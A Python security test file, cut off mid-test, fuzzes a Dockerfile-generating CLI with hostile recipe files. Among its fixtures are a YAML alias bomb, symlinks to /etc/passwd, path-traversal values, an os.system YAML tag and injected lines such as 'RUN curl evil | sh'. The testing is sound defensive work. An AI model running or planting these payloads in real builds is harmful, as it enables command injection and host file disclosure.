"""Recipe files are untrusted input (issue 16): they come from other people's directories and
repositories and imagegen often runs as root. Whatever a recipe directory holds, every command that
loads it ends in seconds with one bounded, escaped ``imagegen: error:`` line (or works), never reads
outside the recipe's directory, and never adds an instruction to a rendered Dockerfile.

Regression tests for each defect found, then a hypothesis fuzz test over the real CLI."""

from __future__ import annotations

import contextlib
import io
import os
import signal
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path

import dockerfile
import pytest
import yaml
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from imagegen import safety
from imagegen.cli import main
from imagegen.errors import RecipeError, UnsafeValueError, printable
from imagegen.model.catalogue import load_catalogue
from imagegen.model.recipe_file import load_recipe_file
from imagegen.model.recipe_reader import MAX_RECIPE_BYTES
from imagegen.render.dockerfile import builder_files

IMAGEGEN = Path(sys.executable).parent / "imagegen"
CELL = ["--arch", "9.0", "--torch", "2.8", "--cuda", "12.8", "--python", "3.12", "--flavor", "cuda"]

BASE = textwrap.dedent("""\
    schema: 1
    name: demo
    description: "a demo"
    source:
      git: https://github.com/example/demo.git
    versions:
      "1.0":
        ref: v1.0
        commit: 0123456789abcdef0123456789abcdef01234567
        archs: ["8.0", "9.0"]
    arch:
      env: DEMO_ARCHS
      style: numeric
      ptx: none
    build:
      env: {DEMO_FLAG: "1"}
      requires: [setuptools]
      memory_per_thread_gb: 2.0
      links_libcuda: false
    smoke:
      imports: [demo]
    """)
WITH_PATCH = BASE.replace('    archs: ["8.0", "9.0"]\n', '    archs: ["8.0", "9.0"]\n    patches: [{file: x.patch, reason: test}]\n')

# A 315-byte alias tree: nine levels of nine references, 9**9 (387 million) leaves once expanded.
BOMB = ("[&a [lol,lol,lol,lol,lol,lol,lol,lol,lol], &b [*a,*a,*a,*a,*a,*a,*a,*a,*a], &c [*b,*b,*b,*b,*b,*b,*b,*b,*b],"
        " &d [*c,*c,*c,*c,*c,*c,*c,*c,*c], &e [*d,*d,*d,*d,*d,*d,*d,*d,*d], &f [*e,*e,*e,*e,*e,*e,*e,*e,*e],"
        " &g [*f,*f,*f,*f,*f,*f,*f,*f,*f], &h [*g,*g,*g,*g,*g,*g,*g,*g,*g], &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]]")
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"


class _Hang(Exception):
    pass


def _alarm(signum, frame):
    raise _Hang()


def run(*argv: str, limit: float = 10.0) -> tuple[int, str, str]:
    """The real CLI in this process (as tests/unit/test_cli.py runs it), stopped if it takes over ``limit`` s."""
    out, err = io.StringIO(), io.StringIO()
    old = signal.signal(signal.SIGALRM, _alarm)
    signal.setitimer(signal.ITIMER_REAL, limit)
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            try:
                code = main(list(argv))
            except SystemExit as exc:
                code = exc.code if isinstance(exc.code, int) else 0
    except _Hang:
        pytest.fail(f"imagegen {' '.join(a[:40] for a in argv)} still running after {limit} s")
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, old)
    return code, out.getvalue(), err.getvalue()


def run_process(*argv: str, limit: float = 20.0) -> subprocess.CompletedProcess:
    """The installed console script as a separate process (for a hang or a crash of the interpreter)."""
    try:
        return subprocess.run([str(IMAGEGEN), *argv], capture_output=True, text=True, timeout=limit,
                              stdin=subprocess.DEVNULL)
    except subprocess.TimeoutExpired:
        pytest.fail(f"imagegen {' '.join(a[:40] for a in argv)} still running after {limit} s")


def one_error(code: int, err: str, codes: tuple[int, ...] = (2,)) -> str:
    """Exactly one ``imagegen: error:`` line under 400 characters, printable, and nothing else."""
    lines = err.splitlines()
    errors = [line for line in lines if line.startswith("imagegen: error: ")]
    assert code in codes, (code, err[-2000:])
    assert len(errors) == 1 and len(lines) == 1, err[-2000:]
    line = errors[0]
    assert len(line) < 400, line
    assert line.isprintable() and not any(c in BIDI for c in line), ascii(line)
    assert "Traceback" not in err and "internal error" not in err
    return line


def recipe_dir(root: Path, text: str | bytes, name: str = "demo.yaml") -> Path:
    d = root / "recipes"
    d.mkdir(exist_ok=True)
    p = d / name
    if isinstance(text, bytes):
        p.write_bytes(text)
    else:
        p.write_text(text, encoding="utf-8")
    return d


def plan(d: Path, name: str = "demo") -> tuple[int, str, str]:
    return run("plan", name, "--recipe-dir", str(d), *CELL)


def render(d: Path, out: Path | None = None, name: str = "demo") -> tuple[int, str, str]:
    return run("render", name, "--recipe-dir", str(d), *CELL, *(["-o", str(out)] if out else []))


def test_the_base_recipe_renders(tmp_path):
    code, out, err = render(recipe_dir(tmp_path, BASE))
    assert code == 0 and err == "" and "FROM" in out


# --------------------------------------------------------------------------------------------
# 1. Hangs: alias trees, deep nesting, FIFOs, huge files


BOMB_PLACES = {
    "schema": lambda b: BASE.replace("schema: 1", f"schema: {b}"),
    "build.memory_per_thread_gb": lambda b: BASE.replace("memory_per_thread_gb: 2.0", f"memory_per_thread_gb: {b}"),
    "build.links_libcuda": lambda b: BASE.replace("links_libcuda: false", f"links_libcuda: {b}"),
    "build.requires[0]": lambda b: BASE.replace("requires: [setuptools]", f"requires: [{b}]"),
    "build.env.X": lambda b: BASE.replace('env: {DEMO_FLAG: "1"}', f"env: {{X: {b}}}"),
}


@pytest.mark.parametrize("where", sorted(BOMB_PLACES))
def test_an_alias_tree_is_refused_in_no_time(tmp_path, where):
    d = recipe_dir(tmp_path, BOMB_PLACES[where](BOMB))
    start = time.monotonic()
    for command in (plan, render):
        code, _, err = command(d)
        line = one_error(code, err)
        assert "aliases" in line and "demo.yaml: line " in line
    assert time.monotonic() - start < 5


def test_an_alias_tree_does_not_hang_the_installed_command(tmp_path):
    d = recipe_dir(tmp_path, BOMB_PLACES["schema"](BOMB))
    proc = run_process("plan", "--recipe-dir", str(d), "sage", *CELL)
    one_error(proc.returncode, proc.stderr)


def test_describe_never_walks_a_value():
    tree: list = ["lol"] * 9
    for _ in range(9):
        tree = [tree] * 9  # 9**10 leaves if anyone expanded it
    start = time.monotonic()
    assert safety.describe(tree) == "a list of 9 items"
    assert safety.describe({"a": tree}) == "a mapping of 1 key"
    assert safety.describe("x" * 10_000_000).endswith("'...") and len(safety.describe("x" * 10_000_000)) < 70
    assert safety.describe(10 ** 5000) == "a 16610-bit integer"
    assert safety.describe(float("nan")) == ".nan" and safety.describe(float("-inf")) == "-.inf"
    assert time.monotonic() - start < 1


def test_deep_nesting_is_refused_without_crashing_the_interpreter(tmp_path):
    # libyaml's composer recurses: 100000 levels crash (SIGSEGV) a plain yaml.load.
    d = recipe_dir(tmp_path, BASE.replace("schema: 1", "schema: " + "[" * 100_000 + "]" * 100_000))
    proc = run_process("plan", "--recipe-dir", str(d), "demo", *CELL)
    assert "nested deeper than" in one_error(proc.returncode, proc.stderr)


def test_a_fifo_patch_does_not_block(tmp_path):
    d = recipe_dir(tmp_path, WITH_PATCH)
    (d / "patches").mkdir()
    os.mkfifo(d / "patches" / "x.patch")
    proc = run_process("plan", "--recipe-dir", str(d), "demo", *CELL)
    assert "not a regular file" in one_error(proc.returncode, proc.stderr)


def test_a_fifo_recipe_file_does_not_block(tmp_path):
    d = tmp_path / "recipes"
    d.mkdir()
    os.mkfifo(d / "demo.yaml")
    proc = run_process("plan", "--recipe-dir", str(d), "sage", *CELL)
    assert "not a regular file" in one_error(proc.returncode, proc.stderr)


def test_files_over_the_size_bound_are_refused(tmp_path):
    d = recipe_dir(tmp_path, BASE + "#" * MAX_RECIPE_BYTES + "\n")
    assert "at most" in one_error(*plan(d)[::2])
    d = recipe_dir(tmp_path, WITH_PATCH)
    (d / "patches").mkdir()
    with open(d / "patches" / "x.patch", "wb") as fh:
        fh.truncate(64 << 20)  # sparse: costs no disk
    assert "at most" in one_error(*plan(d)[::2])


def test_a_50_mb_value_is_never_echoed(tmp_path):
    big = "A" * 600_000  # as large as the file bound lets a value be
    for text in (BASE.replace("ref: v1.0", f"ref: {big}"), BASE.replace("DEMO_FLAG", big),
                 BASE.replace('description: "a demo"', f"description: {big}"), BASE + f"{big}: 1\n"):
        line = one_error(*plan(recipe_dir(tmp_path, text))[::2])
        assert "AAAAAAAAAA" * 20 not in line


# --------------------------------------------------------------------------------------------
# 2. Host files: a recipe reads only inside its own directory


def test_a_patch_symlink_to_a_host_file_is_refused(tmp_path):
    d = recipe_dir(tmp_path, WITH_PATCH)
    (d / "patches").mkdir()
    (d / "patches" / "x.patch").symlink_to("/etc/passwd")
    code, out, err = render(d)
    assert "leads outside" in one_error(code, err) and "root:" not in out


def test_a_patch_path_cannot_climb_out(tmp_path):
    (tmp_path / "secret.patch").write_text("secret\n")
    d = recipe_dir(tmp_path, WITH_PATCH.replace("file: x.patch", "file: ../../secret.patch"))
    code, out, err = render(d)
    one_error(code, err)
    assert "secret" not in out
    # A symlinked patches/ directory that leads out is refused the same way.
    d = recipe_dir(tmp_path, WITH_PATCH.replace("file: ../../secret.patch", "file: x.patch"))
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "x.patch").write_text("secret\n")
    (d / "patches").symlink_to(tmp_path / "elsewhere")
    code, out, err = render(d)
    assert "leads outside" in one_error(code, err) and "secret" not in out


def test_a_symlink_inside_the_recipe_directory_is_fine(tmp_path):
    d = recipe_dir(tmp_path, WITH_PATCH)
    (d / "patches").mkdir()
    (d / "patches" / "real.patch").write_text("--- a\n+++ b\n")
    (d / "patches" / "x.patch").symlink_to("real.patch")
    code, out, err = render(d, tmp_path / "out" / "Dockerfile")
    assert code == 0 and out == "", err
    # The patch is written beside the Dockerfile as a file (its text, not a link), and the Dockerfile names it.
    (written,) = (tmp_path / "out").glob("*/patches/x.patch")
    assert not written.is_symlink() and written.read_text() == "--- a\n+++ b\n"
    assert "patch x.patch" in (tmp_path / "out" / "Dockerfile").read_text()


def test_a_recipe_file_symlinked_to_a_host_file_is_refused(tmp_path):
    d = tmp_path / "recipes"
    d.mkdir()
    (d / "evil.yaml").symlink_to("/etc/passwd")
    code, _, err = run("plan", "--recipe-dir", str(d), "sage", *CELL)
    assert "leads outside" in one_error(code, err)


@pytest.mark.parametrize("path", ["/etc/ssl", "../..", "sub/../../x", "~/src", "link-out", "link-out/sub"])
def test_a_local_source_outside_the_recipe_directory_is_refused(tmp_path, path):
    text = BASE.replace("  git: https://github.com/example/demo.git", f"  path: {path}").replace("    ref: v1.0\n", "")
    d = recipe_dir(tmp_path, text)
    (d / "link-out").symlink_to("/etc")
    code, out, err = render(d)
    line = one_error(code, err)
    assert "source.path" in line and ("outside" in line or "not allowed" in line)
    assert out == ""


def test_a_local_source_inside_the_recipe_directory_is_fine(tmp_path):
    text = BASE.replace("  git: https://github.com/example/demo.git", "  path: src").replace("    ref: v1.0\n", "")
    d = recipe_dir(tmp_path, text)
    (d / "src").mkdir()
    (d / "src" / "setup.py").write_text("")
    assert load_recipe_file(d / "demo.yaml").source_path == (d / "src").resolve()
    dot = load_recipe_file(recipe_dir(tmp_path, text.replace("path: src", 'path: "."')) / "demo.yaml")
    assert dot.source_path == d.resolve()


# --------------------------------------------------------------------------------------------
# 3. Broken input that used to be an internal error (exit 70) is a one-line user error (exit 2)


BROKEN = {
    "min_cuda_by_arch as a list": BASE.replace('    archs: ["8.0", "9.0"]\n', '    archs: ["8.0", "9.0"]\n    min_cuda_by_arch: ["9.0"]\n'),
    "min_cuda_by_arch with a bad arch": BASE.replace('    archs: ["8.0", "9.0"]\n', '    archs: ["8.0", "9.0"]\n    min_cuda_by_arch: {bogus: "12.0"}\n'),
    "patches: 5": BASE.replace('    archs: ["8.0", "9.0"]\n', '    archs: ["8.0", "9.0"]\n    patches: 5\n'),
    "obsolete_patches: 7": BASE + "obsolete_patches: 7\n",
    "extensions: 0": BASE.replace('    archs: ["8.0", "9.0"]\n', '    archs: ["8.0", "9.0"]\n    extensions: 0\n'),
    "emits as a list": BASE.replace('    archs: ["8.0", "9.0"]\n', '    archs: ["8.0", "9.0"]\n    emits: [1]\n'),
    "memory .inf": BASE.replace("memory_per_thread_gb: 2.0", "memory_per_thread_gb: .inf"),
    "memory .nan": BASE.replace("memory_per_thread_gb: 2.0", "memory_per_thread_gb: .nan"),
    "memory 1e30": BASE.replace("memory_per_thread_gb: 2.0", "memory_per_thread_gb: 1.0e+30"),
    "nvcc threads .inf": BASE.replace("build:\n", "build:\n  default_nvcc_threads: .inf\n"),
    "nvcc threads 1e30": BASE.replace("build:\n", "build:\n  default_nvcc_threads: 1.0e+30\n"),
    "nvcc threads 2.5": BASE.replace("build:\n", "build:\n  default_nvcc_threads: 2.5\n"),
    "ext_parallel.max .inf": BASE.replace("build:\n", "build:\n  ext_parallel: {env: EXT_PARALLEL, max: .inf}\n"),
    "env value .nan": BASE.replace('DEMO_FLAG: "1"', "DEMO_FLAG: .nan"),
    "ref 1e30": BASE.replace("ref: v1.0", "ref: 1.0e+30"),
    "a 5000-digit integer": BASE.replace("ref: v1.0", "ref: " + "9" * 5000),
    "!!int foo": BASE.replace("ref: v1.0", "ref: !!int foo"),
    "a bad timestamp": BASE.replace("ref: v1.0", "ref: 2024-99-99"),
    "a set": BASE.replace("ref: v1.0", "ref: !!set {a}"),
    "binary data": BASE.replace("ref: v1.0", "ref: !!binary AAAA"),
    "fixed table with a duplicate CUDA": BASE.replace("  style: numeric\n", '  style: fixed\n  fixed: {"12.8": ["9.0"], 12.8: ["8.0"]}\n'),
    "two documents": BASE + "---\nname: other\n",
    "a version label that is a list": BASE.replace('  "1.0":', "  ? [1, 2]"),
    "the whole file a list": "- 1\n- 2\n",
    "an empty file": "",
    "only a comment": "# nothing\n",
}


@pytest.mark.parametrize("what", sorted(BROKEN))
def test_broken_values_are_one_line_user_errors(tmp_path, what):
    d = recipe_dir(tmp_path, BROKEN[what])
    for command in (plan, render):
        code, _, err = command(d)
        line = one_error(code, err)
        assert "demo.yaml" in line


@pytest.mark.parametrize("what, number", [("memory .inf", ".inf"), ("memory 1e30", "1e+30"),
                                          ("nvcc threads 1e30", "1e+30"), ("ext_parallel.max .inf", ".inf")])
def test_bad_numbers_name_their_range(tmp_path, what, number):
    line = one_error(*plan(recipe_dir(tmp_path, BROKEN[what]))[::2])
    assert " from " in line and f"got {number}" in line


def test_binary_recipe_file(tmp_path):
    d = recipe_dir(tmp_path, b"\xff\xfe\x00bin\x80ary\n")
    assert "not UTF-8" in one_error(*plan(d, "sage")[::2])


def test_recipe_file_that_is_a_directory(tmp_path):
    d = tmp_path / "recipes"
    (d / "demo.yaml").mkdir(parents=True)
    assert "not a regular file" in one_error(*plan(d, "sage")[::2])


def test_recipe_file_that_is_a_dangling_symlink(tmp_path):
    d = tmp_path / "recipes"
    d.mkdir()
    (d / "demo.yaml").symlink_to(d / "gone.yaml")
    assert "no such file" in one_error(*plan(d, "sage")[::2])


def test_recipe_file_that_is_a_symlink_loop(tmp_path):
    d = tmp_path / "recipes"
    d.mkdir()
    (d / "demo.yaml").symlink_to(d / "demo.yaml")
    one_error(*plan(d, "sage")[::2])


@pytest.mark.parametrize("make", ["300-char name", "a file", "missing", "NUL byte"])
def test_bad_recipe_dir(tmp_path, make):
    d = {"300-char name": tmp_path / ("d" * 300), "a file": tmp_path / "f", "missing": tmp_path / "nope",
         "NUL byte": tmp_path / "a\0b"}[make]
    if make == "a file":
        d.write_text("")
    line = one_error(*plan(d, "sage")[::2])
    assert "recipe directory" in line


def test_unreadable_recipe_dir():
    # Root reads any directory, so as root the CLI runs as `nobody` (setpriv drops the ids), in a
    # folder that user can reach: the check is the same either way, never skipped.
    top = Path(tempfile.mkdtemp(prefix="imagegen-unreadable-", dir="/tmp"))
    try:
        top.chmod(0o755)
        d = top / "locked"
        d.mkdir(mode=0)
        argv = [str(IMAGEGEN), "plan", "sage", "--recipe-dir", str(d), *CELL]
        if os.geteuid() == 0:
            argv = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *argv]
        proc = subprocess.run(argv, capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL,
                              env={**os.environ, "HOME": str(top)}, cwd=top)
        assert proc.returncode == 2, proc.stderr
        assert "permission denied" in one_error(proc.returncode, proc.stderr)
    finally:
        (top / "locked").chmod(0o700)
        import shutil
        shutil.rmtree(top)


# --------------------------------------------------------------------------------------------
# 4. Unknown keys below the top level are refused with their path and the keys allowed


UNKNOWN_KEYS = [
    ("source", lambda t: t.replace("  git: https://", "  gti: x\n  git: https://"), "source.gti", "git, path, subdir"),
    ("build", lambda t: t.replace("build:\n", "build:\n  memory_per_thread: 4\n"), "build.memory_per_thread", "memory_per_thread_gb"),
    ("build.ext_parallel", lambda t: t.replace("build:\n", "build:\n  ext_parallel: {env: X, maxx: 2}\n"), "build.ext_parallel.maxx", "env, max"),
    ("arch", lambda t: t.replace("  ptx: none\n", "  ptx: none\n  stlye: torch\n"), "arch.stlye", "style"),
    ("smoke", lambda t: t.replace("  imports: [demo]\n", "  imports: [demo]\n  import: [x]\n"), "smoke.import", "imports"),
    ("versions.X", lambda t: t.replace("    ref: v1.0\n", "    ref: v1.0\n    comit: abc\n"), "versions.1.0.comit", "commit"),
    ("versions.X.arch", lambda t: t.replace("    ref: v1.0\n", "    ref: v1.0\n    arch: {style: numeric, evn: X}\n"), "versions.1.0.arch.evn", "env"),
    ("versions.X.requires.Y", lambda t: t.replace("    ref: v1.0\n", '    ref: v1.0\n    requires: {torch: {spec: ">=2.8", wy: x}}\n'), "versions.1.0.requires.torch.wy", "spec, why"),
    ("versions.X.extensions.M", lambda t: t.replace("    ref: v1.0\n", '    ref: v1.0\n    extensions: {demo._C: {archs: ["9.0"], arch: x}}\n'), "versions.1.0.extensions.demo._C.arch", "archs"),
    ("versions.X.patches[i]", lambda t: WITH_PATCH.replace("reason: test", "reason: test, sha: x"), "versions.1.0.patches[0].sha", "file, reason"),
    ("obsolete_patches[i]", lambda t: t + "obsolete_patches: [{name: a, reason: b, when: c}]\n", "obsolete_patches[0].when", "name, reason"),
]


@pytest.mark.parametrize("where, mutate, path, allowed", UNKNOWN_KEYS, ids=[u[0] for u in UNKNOWN_KEYS])
def test_unknown_nested_keys_are_refused(tmp_path, where, mutate, path, allowed):
    d = recipe_dir(tmp_path, mutate(BASE))
    line = one_error(*plan(d)[::2])
    assert f": {path}: unknown key (known: " in line and allowed in line


def test_the_catalogue_uses_only_known_keys():
    assert len(load_catalogue().recipes) >= 8  # every built-in recipe passes the key checks


# --------------------------------------------------------------------------------------------
# 5. Messages: bounded, escaped, readable


def test_control_and_bidi_characters_are_escaped(tmp_path):
    evil = "\\e[2J\\e]0;pwned\\a\\u202eexe.txt\\u2066x\\0"  # YAML escapes: ESC, BEL, RLO, LRI, NUL
    for text in (BASE.replace("ref: v1.0", f'ref: "{evil}"'), BASE.replace("DEMO_FLAG", f'"{evil}"'),
                 BASE + f'"{evil}": 1\n', BASE.replace("style: numeric", f'style: "{evil}"')):
        line = one_error(*plan(recipe_dir(tmp_path, text))[::2])
        assert "\\x1b" in line and "\\u202e" in line


def test_a_control_character_in_a_recipe_dir_name_is_escaped(tmp_path):
    line = one_error(*plan(tmp_path / "x\x1b[31my\u202e", "sage")[::2])
    assert "\\x1b" in line and "\\u202e" in line


def test_every_typed_error_is_escaped():
    assert str(RecipeError("a\x1bb\u202ec\x00d")) == "a\\x1bb\\u202ec\\x00d"
    assert printable("plain text, é and →") == "plain text, é and →"
    assert len(str(RecipeError("x" * 100_000))) <= 380


def test_the_unsafe_value_message_reads_as_a_sentence():
    with pytest.raises(UnsafeValueError) as err:
        safety.validate("a b", safety.ENV_NAME, "--env")
    assert "is not allowed: use a value matching" in str(err.value)
    assert "use it must match" not in str(err.value)


# --------------------------------------------------------------------------------------------
# The fuzz test: generated hostile recipe directories through the real CLI


# Every key path a recipe reads (each nested mapping too), where a generated value replaces the
# base recipe's or is added to it.
KEY_PATHS = [
    ("schema",), ("name",), ("aliases",), ("description",), ("homepage",), ("distribution",), ("default_version",),
    ("source",), ("source", "git"), ("source", "path"), ("source", "submodules"), ("source", "subdir"),
    ("versions",), ("versions", "1.0"), *[("versions", "1.0", k) for k in (
        "ref", "commit", "archs", "emits", "min_cuda_by_arch", "patches", "extensions", "arch", "env", "requires",
        "notes")],
    ("versions", "1.0", "requires", "torch"), ("versions", "1.0", "requires", "cuda", "spec"),
    ("versions", "1.0", "extensions", "demo._C"), ("versions", "1.0", "extensions", "demo._C", "archs"),
    ("versions", "1.0", "arch", "style"), ("versions", "1.0", "min_cuda_by_arch", "9.0"), ("versions", "1.0", "emits", "9.0"),
    ("arch",), *[("arch", k) for k in ("env", "style", "fixed", "fixed_dropped", "ptx", "keep_variant", "parser", "runs_on")],
    ("arch", "fixed", "12.8"), ("arch", "runs_on", "8.6"),
    ("build",), *[("build", k) for k in (
        "force_env", "local_version_env", "jobs_env", "threads_env", "default_nvcc_threads", "memory_per_thread_gb",
        "ext_parallel", "env", "requires", "system_requires", "min_cuda", "min_torch", "max_torch", "python",
        "links_libcuda", "abi3")],
    ("build", "ext_parallel", "max"), ("build", "env", "X"), ("build", "force_env", "X"),
    ("smoke",), ("smoke", "imports"), ("smoke", "driver_imports"), ("smoke", "gpu_check"),
    ("obsolete_patches",),
]
CONTROL = ["\x1b", "\x00", "\x07", "\x7f", "\x9b", "\u202e", "\u2066", "\u200f", "\ufeff", "\x85", "\u2028", "\r", "\n", "\t"]
NASTY = ["RUN id", "x\nRUN curl evil | sh", "$(id)", "`id`", "${IMAGEGEN_PIP_CERT}", "'\"", "\\", "/etc/passwd",
         "../../../etc/passwd", "..", ".", "~", "-rf", "--privileged", "9.0", "9.0a", "12.0+PTX", "sm_90", "12.8",
         ">=2.8", "===x", "v1.0", "0123456789abcdef0123456789abcdef01234567", "demo", "https://x/$(id).git",
         "IMAGEGEN_EOF", "IMAGEGEN_CELL_JSON", "EOF", "\u202eexe.txt", "\x1b[2J\x1b]0;pwned\x07"]
short_texts = st.one_of(
    st.text(st.characters(blacklist_categories=("Cs",)), max_size=30),
    st.text(st.sampled_from(CONTROL + list("RUN $`\"'\\;|&{}#:-[]*!%@")), max_size=30),
    st.sampled_from(NASTY),
)
texts = st.one_of(short_texts, st.integers(2_000, 300_000).map(lambda n: "A" * n))
scalars = st.one_of(texts, st.integers(-(10 ** 30), 10 ** 30), st.floats(), st.booleans(), st.none())
values = st.recursive(scalars, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(
    st.one_of(short_texts, st.integers(), st.floats(allow_nan=False), st.booleans()),
    inner, max_size=4), max_leaves=12)
# Whole files that are not a recipe document at all.
RAW = st.one_of(
    st.sampled_from([BOMB_PLACES[k](BOMB) for k in sorted(BOMB_PLACES)]),
    st.integers(33, 20_000).map(lambda n: "a: " + "[" * n + "]" * n),
    st.integers(33, 20_000).map(lambda n: "a:\n" + "".join(" " * i + "- \n" for i in range(0, n, 2))[:200_000]),
    st.binary(max_size=300),
    st.text(max_size=300),
    st.tuples(st.integers(0, len(BASE)), st.text(max_size=20)).map(lambda t: BASE[:t[0]] + t[1] + BASE[t[0]:]),
    st.just(BASE + "#" * (MAX_RECIPE_BYTES + 1)),
    st.sampled_from(["", "---\n...\n", "- 1\n", "? [a]\n: b\n", "a: !!python/object/apply:os.system [id]\n",
                     "a: &x 1\nb: *x\n", "<<: {a: 1}\n", "a: 0x" + "f" * 5000 + "\n", "a: !!float x\n"]),
)
FREE_TEXT = [("description",), ("versions", "1.0", "notes"), ("smoke", "gpu_check"),
             ("obsolete_patches", 0, "name"), ("obsolete_patches", 0, "reason")]
PATCH_KINDS = ["none", "regular", "to-passwd", "fifo", "directory", "dangling", "loop", "climb", "huge"]


def _set(doc: dict, path: tuple, value) -> None:
    if path[0] == "obsolete_patches" and len(path) == 3:  # a list of {name, reason}
        doc["obsolete_patches"] = [{"name": "n", "reason": "r", path[2]: value}]
        return
    node = doc
    for key in path[:-1]:
        if not isinstance(node.get(key), dict):
            node[key] = {}
        node = node[key]
    node[path[-1]] = value


@st.composite
def hostile_recipe(draw) -> tuple[bytes, str]:
    """(the recipe file's bytes, what to put in patches/)."""
    patch = draw(st.sampled_from(PATCH_KINDS + ["none"] * 6 + ["regular"] * 5))
    if draw(st.integers(0, 4)) == 0:
        raw = draw(RAW)
        return (raw if isinstance(raw, bytes) else raw.encode("utf-8", "surrogatepass")), patch
    doc = yaml.safe_load(BASE)
    if patch != "none":
        name = "../../../../etc/passwd" if patch == "climb" else "x.patch"
        doc["versions"]["1.0"]["patches"] = [{"file": name, "reason": "fuzz"}]
    # Free text a recipe may carry: accepted, and must stay out of the Dockerfile's instructions.
    for path in draw(st.lists(st.sampled_from(FREE_TEXT), max_size=3)):
        _set(doc, path, draw(st.one_of(short_texts, st.integers(1, 7000).map(lambda n: "RUN id\n" * n))))
    for _ in range(draw(st.sampled_from([0, 0, 1, 1, 2, 3]))):
        path = draw(st.sampled_from(KEY_PATHS))
        action = draw(st.sampled_from(["set", "set", "delete", "unknown-key"]))
        if action == "set":
            _set(doc, path, draw(values))
        elif action == "delete":
            parent = doc
            for key in path[:-1]:
                parent = parent.get(key) if isinstance(parent, dict) else None
            if isinstance(parent, dict):
                parent.pop(path[-1], None)
        else:
            _set(doc, path + (draw(short_texts.filter(bool)),), draw(values))
    text = yaml.safe_dump(doc, allow_unicode=draw(st.booleans()), width=10 ** 9)
    return text.encode("utf-8", "surrogatepass"), patch


def _make_patch(d: Path, kind: str) -> None:
    patches = d / "patches"
    patches.mkdir()
    target = patches / "x.patch"
    if kind == "regular":
        target.write_text("--- a\n+++ b\nRUN id\nIMAGEGEN_EOF\n")
    elif kind == "to-passwd":
        target.symlink_to("/etc/passwd")
    elif kind == "fifo":
        os.mkfifo(target)
    elif kind == "directory":
        target.mkdir()
    elif kind == "dangling":
        target.symlink_to(patches / "gone")
    elif kind == "loop":
        target.symlink_to(target)
    elif kind == "huge":
        with open(target, "wb") as fh:
            fh.truncate(1 << 30)


def _snapshot(root: Path) -> dict[str, tuple]:
    out = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs + files:
            p = Path(folder, name)
            st_ = p.lstat()
            changes = () if p.is_dir() and not p.is_symlink() else (st_.st_size, st_.st_mtime_ns)
            out[str(p.relative_to(root))] = (st_.st_mode, *changes)
    return out


def _instructions(text: str) -> list[str]:
    """The Dockerfile's instructions, less the one RUN that applies the recipe's patches by file name (a
    recipe with patches has it, the clean one has none)."""
    return [c.cmd.upper() for c in dockerfile.parse_string(text)
            if not (c.cmd.upper() == "RUN" and "/imagegen/imagegen_build.py patch " in c.value[0])]


_CLEAN: list[list[str]] = []


def _clean_instructions() -> list[str]:
    if not _CLEAN:
        with tempfile.TemporaryDirectory() as tmp:
            code, out, err = render(recipe_dir(Path(tmp), BASE))
            assert code == 0, err
            _CLEAN.append(_instructions(out))
    return _CLEAN[0]


@settings(max_examples=int(os.environ.get("IMAGEGEN_FUZZ_EXAMPLES", "250")), deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example,
                                 HealthCheck.filter_too_much])
@given(case=hostile_recipe())
def test_fuzz_hostile_recipe_directories(case):
    data, patch = case
    clean = _clean_instructions()
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        d = root / "recipes"
        d.mkdir()
        (d / "demo.yaml").write_bytes(data)
        if patch != "none":
            _make_patch(d, patch)
        (root / "out").mkdir()
        (root / "work").mkdir()
        before = _snapshot(root)
        cwd = os.getcwd()
        os.chdir(root / "work")
        try:
            results = [run("plan", "demo", "--recipe-dir", str(d), *CELL, limit=8),
                       run("render", "demo", "--recipe-dir", str(d), *CELL, "-o", str(root / "out" / "Dockerfile"),
                           limit=8)]
        finally:
            os.chdir(cwd)
        after = _snapshot(root)
        written = {k for k in after if k not in before or after[k] != before[k]}
        # render -o writes the Dockerfile, imagegen's own scripts and the cell's files beside it, nothing else
        cell_dir = "out/demo-1_0-torch2_8-cu128-py312"
        patches = {f"{cell_dir}/patches", *(f"{cell_dir}/patches/{p.name}" for p in (d / "patches").glob("*"))} \
            if (d / "patches").is_dir() else set()
        assert written <= {"out/Dockerfile", "out/imagegen-scripts", *(f"out/imagegen-scripts/{name}" for name in
                                                                       builder_files()),
                           cell_dir, f"{cell_dir}/cell.json", *patches}, written
        for (code, out, err), command in zip(results, ("plan", "render")):
            assert "Traceback (most recent call last)" not in err and "internal error" not in err, err[-2000:]
            if code != 0:
                one_error(code, err, codes=(2, 3) if command == "plan" else (2, 3))
                assert "root:x:0:0" not in out
            else:
                assert "imagegen: error" not in err
        event(f"plan exit {results[0][0]}, render exit {results[1][0]}")
        code, _, _ = results[1]
        rendered = root / "out" / "Dockerfile"
        assert rendered.exists() == (code == 0)
        if code == 0:
            text = rendered.read_text(encoding="utf-8")
            assert "root:x:0:0" not in text
            assert _instructions(text) == clean  # the template's instructions, none added or lost


def test_a_source_tree_reads_its_setup_py_only_inside_the_tree(tmp_path):
    from imagegen.model.source_tree import recipe_from_source_tree

    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "setup.py").write_text('setup(name="leaked-name", version="6.6.6")\n')
    project = tmp_path / "project"
    project.mkdir()
    (project / "setup.py").symlink_to(tmp_path / "outside" / "setup.py")
    r = recipe_from_source_tree(project)
    assert r.name == "project" and r.default_version == "0.0.0"
    (project / "setup.py").unlink()
    (project / "setup.py").write_text('setup(name="inside", version="1.2.3")\n')
    r = recipe_from_source_tree(project)
    assert r.name == "inside" and r.default_version == "1.2.3"


@pytest.mark.parametrize("field", ["description", "notes", "reason", "gpu_check"])
def test_recipe_text_with_terminal_controls_is_refused(tmp_path, field):
    evil = '"ok \\e[31mred \\u202eexe.txt"'
    text = {
        "description": BASE.replace('description: "a demo"', f"description: {evil}"),
